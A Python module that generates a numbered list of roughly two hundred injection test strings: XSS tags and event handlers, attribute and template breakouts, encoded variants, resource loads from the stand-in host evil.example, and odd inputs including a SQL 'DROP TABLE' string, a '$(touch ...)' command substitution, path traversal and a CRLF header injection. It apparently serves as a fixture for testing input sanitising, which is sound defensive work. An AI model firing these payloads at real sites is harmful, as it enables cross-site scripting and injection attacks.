"""Two hundred texts that want to be more than text. Each says which it is if it gets its way."""

from itertools import product

EVIL = "evil.example"

TAGS = [  # {do} is what wants to be run, {q} a quotation mark to break out of an attribute with
    "<script>{do}</script>", "<img src=x onerror={do}>", "<svg onload={do}>", "<svg><script>{do}</script></svg>",
    "<iframe srcdoc='<script>parent.{do}</script>'></iframe>", "<iframe src='javascript:parent.{do}'></iframe>",
    "<body onload={do}>", "<details open ontoggle={do}>", "<input autofocus onfocus={do}>",
    "<select autofocus onfocus={do}>", "<video src=x onerror={do}></video>", "<audio src=x onerror={do}></audio>",
    "<object data='javascript:{do}'></object>", "<embed src='javascript:{do}'>",
    "<math><mi xlink:href='javascript:{do}'>", "<a href='javascript:{do}' autofocus onfocus={do}>x</a>",
    "<form action='javascript:{do}'><button autofocus onfocus={do}>",
    "<marquee onstart={do}>x</marquee>", "<style>@import 'http://evil.example/{n}.css';</style>",
    "<style>*{{background:url(http://evil.example/{n})}}</style>", "<link rel=stylesheet href=http://evil.example/{n}.css>",
    "<base href=http://evil.example/{n}/>", "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<img src=http://evil.example/{n}.png>", "<b data-evil={n}>gras</b>",
    "<template><img src=x onerror={do}></template>", "<xss style='animation-name:x' onanimationstart={do}>",
    "<div style='background:url(http://evil.example/{n})'>x</div>",
]  # fmt: skip
OPENINGS = ["", '">', "'>", "--></style></script></title></textarea>", "]]>", "`>"]
BREAKS = [  # out of an attribute, a script, a template, an address
    "{q} onmouseover={do} autofocus onfocus={do} x={q}", "{q} style={q}background:url(http://evil.example/{n})",
    "{q};{do};//", "${{{do}}}", "{{{{{do}}}}}", "#{{{do}}}", "<%= {do} %>", "{{@html '<img src=x onerror={do}>'}}",
    "javascript:{do}", "data:text/html,<script>{do}</script>", "//evil.example/{n}",
    "\\u003cimg src=x onerror={do}\\u003e",
    "%3Cimg%20src=x%20onerror={do}%3E", "&lt;img src=x onerror={do}&gt;", "&#60;img src=x onerror={do}&#62;",
]  # fmt: skip
ODD = [
    "\u202eevil {n}", "\u2066evil\u2069 {n}", "a\u200bb {n}", "\ufeff{n}", "\x00{n}", "\ud7ff{n}", "ﷺ {n}", "Z̴̡̢a̷l̸g̵o {n}",
    "__proto__", "constructor", "toString", "null", "undefined", "NaN", "{{name}}", "{{count}}", "%s%n{n}", "../../{n}",
    "'; DROP TABLE log; -- {n}", "$(touch {n})", "`{n}`", "\\{n}", "\r\nset-cookie: x={n}", "🏴‍☠️ {n}",
]  # fmt: skip
SWALLOW = ["<!--", "<textarea>", "<title>", "<plaintext>", "<noscript>", "<xmp>", "<select>", "<math><annotation-xml>"]


def _made() -> list[str]:
    made = [opening + tag for opening, tag in product(OPENINGS, TAGS)]
    made += [text.replace("{q}", quote) for text, quote in product(BREAKS, ('"', "'"))]
    made += [*ODD, *(text + "<img src=x onerror={do}>" for text in SWALLOW)]
    return [_numbered(text, number) for number, text in enumerate(dict.fromkeys(made))]


def _numbered(text: str, number: int) -> str:
    return text.replace("{do}", f"hit({number})").replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")


PAYLOADS = _made()
